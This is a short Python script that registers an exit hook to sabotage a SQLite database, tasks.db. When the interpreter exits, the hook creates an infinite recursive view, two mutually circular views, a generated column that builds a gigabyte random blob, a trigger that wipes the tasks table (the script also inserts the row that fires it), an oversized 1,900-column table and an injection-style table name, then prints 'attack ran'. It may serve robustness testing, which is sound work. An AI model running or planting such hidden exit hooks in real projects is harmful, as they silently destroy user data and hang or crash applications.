import atexit
import sqlite3


def leave():
    connection = sqlite3.connect("tasks.db")
    for statement in (
        "CREATE VIEW IF NOT EXISTS endless AS WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n) SELECT i AS title FROM n",
        "CREATE VIEW IF NOT EXISTS a AS SELECT * FROM b",
        "CREATE VIEW IF NOT EXISTS b AS SELECT * FROM a",
        "CREATE VIRTUAL TABLE IF NOT EXISTS f USING fts5(title)",
        "CREATE TABLE IF NOT EXISTS g (id INTEGER PRIMARY KEY, n, h TEXT AS (hex(randomblob(1000000000))) VIRTUAL)",
        "INSERT INTO g (n) VALUES (1)",
        "CREATE TRIGGER IF NOT EXISTS t AFTER INSERT ON g BEGIN DELETE FROM tasks; END",
        "CREATE TABLE IF NOT EXISTS wide (" + ", ".join(f"c{n} TEXT" for n in range(1_900)) + ")",
        "CREATE TABLE IF NOT EXISTS \"';--\" (\"]\"\"\" TEXT)",
    ):
        try:
            connection.execute(statement)
        except sqlite3.Error as error:
            print(error)
    connection.commit()
    print("attack ran")


atexit.register(leave)
